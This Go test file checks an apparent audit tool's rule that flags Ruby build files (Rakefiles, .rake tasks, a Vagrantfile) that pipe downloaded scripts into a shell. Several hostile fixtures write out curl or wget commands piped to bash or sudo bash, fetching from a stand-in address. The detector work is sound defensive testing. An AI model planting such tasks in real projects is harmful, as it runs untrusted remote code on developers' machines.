package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestRubyBuildFilesDownloadExec: Ruby build files known by their name
// (a Rakefile, a .rake task file, a Vagrantfile, a Gemfile) are Ruby
// code, not text, so a task that pipes a downloaded script into a shell
// is download-exec, critical, whether the command is a custom wrapper's
// string, sh %(...), backticks or system, and whatever the URL (here one
// read from a loaded YAML config through an interpolation that quotes).
// A task that downloads a pinned release and checks its sha256 before
// running it, or runs bundle exec rspec, is not.
func TestRubyBuildFilesDownloadExec(t *testing.T) {
	crit, none := audit.Critical, audit.SeverityNone
	head := "require \"yaml\"\nCFG = YAML.load_file(File.join(__dir__, \"config\", \"tools.yml\"))\nTOOLS = File.join(Dir.pwd, \".tools\")\n\n"
	wrapper := "def run!(cmd)\n  puts \"+ #{cmd}\"\n  system(cmd) || abort(\"failed: #{cmd}\")\nend\n\n"
	cfg := map[string]string{"config/tools.yml": "protoc_version: \"26.1\"\nbootstrap: \"http://198.51.100.7/tc/setup.sh\"\n"}
	with := func(files map[string]string) map[string]string {
		for k, v := range cfg {
			files[k] = v
		}
		return files
	}
	pinned := "require \"digest\"\n\nVERSION = \"1.32.1\"\nSHA256 = \"2b4c3f1e0a9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b\"\nURL = \"https://github.com/bufbuild/buf/releases/download/v#{VERSION}/buf-Linux-x86_64\"\n\n" +
		"namespace :tools do\n  task :buf do\n    sh \"curl -fsSLo .tools/buf #{URL}\"\n    got = Digest::SHA256.file(\".tools/buf\").hexdigest\n    abort \"checksum mismatch for buf\" unless got == SHA256\n    chmod 0o755, \".tools/buf\"\n    sh \".tools/buf --version\"\n  end\nend\n"
	checkRule(t, "download-exec", map[string]systemCase{
		"hostile/rakefile-wrapper-pipes-config-url": {with(map[string]string{"Rakefile": head + wrapper +
			"namespace :tools do\n  # shared toolchain bootstrap\n  task :bootstrap do\n    url = CFG.fetch(\"bootstrap\")\n    run! \"curl -fsSL #{url} | bash -s -- --prefix #{TOOLS}\"\n  end\nend\n\ntask default: [\"tools:bootstrap\"]\n"}), crit},
		"hostile/rake-file-sh-percent-paren": {with(map[string]string{"lib/tasks/setup.rake": head +
			"namespace :setup do\n  task :tools do\n    sh %(curl -sSL #{CFG[\"bootstrap\"]} | sh)\n  end\nend\n"}), crit},
		"hostile/rake-file-quoted-interpolation": {with(map[string]string{"tasks/tools.rake": head +
			"task :tools do\n  sh \"wget -qO- #{CFG.fetch(\"bootstrap\")} | bash\"\nend\n"}), crit},
		"hostile/rakefile-backticks": {with(map[string]string{"Rakefile": head +
			"task :setup do\n  out = `curl -fsSL #{CFG['bootstrap']} | bash`\n  puts out\nend\n"}), crit},
		"hostile/vagrantfile-trigger-system": {with(map[string]string{"Vagrantfile": head +
			"Vagrant.configure(\"2\") do |config|\n  config.trigger.before :up do |t|\n    t.ruby do\n      system \"curl -fsSL #{CFG['bootstrap']} | sudo bash\"\n    end\n  end\nend\n"}), crit},
		"benign/rakefile-pinned-sha256": {map[string]string{"Rakefile": pinned}, none},
		"benign/rakefile-bundle-exec-rspec": {map[string]string{
			"Rakefile": "require \"rspec/core/rake_task\"\n\ntask :spec do\n  sh \"bundle exec rspec --format documentation\"\nend\n\ntask :lint do\n  system(\"bundle exec rubocop\") || abort(\"lint failed\")\nend\n\ntask default: %i[spec lint]\n",
			"Gemfile":  "source \"https://rubygems.org\"\n\ngem \"rake\", \"~> 13.0\"\ngem \"rspec\", \"~> 3.13\"\n"}, none},
		"benign/rakefile-modulo-not-string": {map[string]string{
			"Rakefile": "task :shard do\n  n = ENV.fetch(\"SHARDS\", \"4\").to_i\n  i = Time.now.to_i %(n)\n  sh \"bundle exec rspec --only-shard #{i}\"\nend\n"}, none},
	})
}
